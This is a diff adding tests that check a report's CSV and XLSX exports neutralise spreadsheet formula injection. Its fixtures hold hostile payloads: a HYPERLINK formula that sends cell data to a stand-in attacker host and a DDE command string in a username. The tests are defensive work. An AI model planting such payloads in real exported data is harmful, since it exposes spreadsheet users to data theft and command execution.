@@ -287,3 +287,63 @@ def test_superuser_sees_any_report(client, company):
     superuser = make_user("root", superuser=True)
     sign_in(client, superuser)
     assert client.get(report_url(company)).status_code == 200
+
+
+FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.mark.parametrize("export", ["csv", "xlsx"])
+@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_csv_formula_injection_is_neutralised_in_every_text_column(admin_client, company, trigger, export):
+    """A member's own name, username or email that a spreadsheet would run as a formula is exported inert."""
+    User = get_user_model()
+    olga = User.objects.get(email="olga@example.com")
+    name = f'{trigger}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    email = f"{trigger}2+3@evil.example"
+    fields = {"first_name": name, "last_name": "", "email": email}
+    if User.USERNAME_FIELD != "email":
+        fields["username"] = f"{trigger}cmd|' /C calc'!A0"
+    User.objects.filter(pk=olga.pk).update(**fields)
+    olga.refresh_from_db()
+    # Text that a spreadsheet could take for a formula, as the report would write it without the fix.
+    payloads = {
+        "Name": reports.permissions.display_name(olga),
+        "Username": olga.get_username(),
+        "Email": email,
+    }
+    response = get(admin_client, report_url(company, export=export))
+    if export == "csv":
+        rows = csv_rows(response)
+        cells = [(heading, value) for row in rows for heading, value in row.items()]
+        olga_row = next(row for row in rows if row["Email"].endswith("evil.example"))
+        exported = {heading: olga_row[heading] for heading in payloads}
+    else:
+        openpyxl = pytest.importorskip("openpyxl")
+        workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+        values = list(workbook.active.iter_rows(values_only=True))
+        headings = values[0]
+        rows = [dict(zip(headings, row, strict=True)) for row in values[1:]]
+        cells = [(heading, value) for row in rows for heading, value in row.items()]
+        olga_row = next(row for row in rows if str(row["Email"]).endswith("evil.example"))
+        exported = {heading: olga_row[heading] for heading in payloads}
+        # Stored as text, never as a formula cell.
+        assert all(cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row)
+    if export == "xlsx":
+        # XML reads a carriage return back as a line feed; that is the file format, not the export.
+        payloads = {heading: payload.replace("\r", "\n") for heading, payload in payloads.items()}
+        email = email.replace("\r", "\n")
+    for heading, payload in payloads.items():
+        if payload.startswith((*FORMULA_TRIGGERS, "\n")):
+            assert exported[heading] == f"'{payload}", heading
+    assert exported["Email"] == f"'{email}"
+    for heading, value in cells:
+        assert not (isinstance(value, str) and value.startswith(tuple(FORMULA_TRIGGERS))), (heading, value)
+
+
+def test_csv_formula_injection_leaves_ordinary_text_alone():
+    assert reports.neutralise_formula("Olga Test") == "Olga Test"
+    assert reports.neutralise_formula("olga@example.com") == "olga@example.com"
+    assert reports.neutralise_formula("2027-02-28 18:00") == "2027-02-28 18:00"
+    assert reports.neutralise_formula("") == ""
+    assert reports.neutralise_formula(None) is None
+    assert reports.neutralise_formula("=1+1") == "'=1+1"
